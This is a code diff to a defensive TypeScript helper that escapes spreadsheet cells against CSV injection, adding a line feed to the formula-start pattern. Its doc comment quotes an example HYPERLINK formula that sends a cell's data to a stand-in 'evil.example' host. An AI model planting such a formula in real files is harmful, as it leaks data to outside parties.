@@ -4,7 +4,7 @@
  * in some programs, a tab or carriage return before one) as a formula, so a buyer's company name such as
  * `=HYPERLINK("http://evil.example/?"&A2,"x")` would become a live link in the accountant's Excel
  * (OWASP "CSV injection"). Such a text cell is written with a leading apostrophe, which every spreadsheet
- * shows as text. Columns that hold numbers (amounts, quantities, rates) keep a plain number as it is, so
+ * shows as text. A line feed counts with them: an .xlsx stores a carriage return as one. Columns that hold numbers (amounts, quantities, rates) keep a plain number as it is, so
  * a negative amount stays a number.
  *
  * The rule is reversible: a text beginning with apostrophes followed by one of those characters gets one
@@ -12,7 +12,7 @@
  * (`-Bright` → `'-Bright` → `-Bright`, and `'=x` → `''=x` → `'=x`).
  */
 
-const FORMULA_START = /^'*[=+\-@\t\r]/;
+const FORMULA_START = /^'*[=+\-@\t\r\n]/;
 const PLAIN_NUMBER = /^-?\d+(\.\d+)?$/;
 
 /** A text cell as written: prefixed with `'` when a spreadsheet would otherwise run it as a formula. */
@@ -36,7 +36,7 @@ export function sheetCellRead(value: string): string {
 
 /** Whether a written cell could start a formula (what the tests of every export check). */
 export function startsFormula(value: string): boolean {
-  return /^[=+\-@\t\r]/.test(value);
+  return /^[=+\-@\t\r\n]/.test(value);
 }
 
 /**
